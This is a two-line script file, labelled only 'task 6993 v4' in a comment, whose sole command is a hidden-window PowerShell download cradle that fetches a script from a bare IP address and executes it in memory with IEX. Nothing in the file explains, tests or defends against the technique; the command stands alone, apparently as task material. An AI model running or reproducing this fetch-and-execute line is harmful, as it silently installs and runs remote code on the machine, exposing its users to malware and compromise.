REM task 6993 v4
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
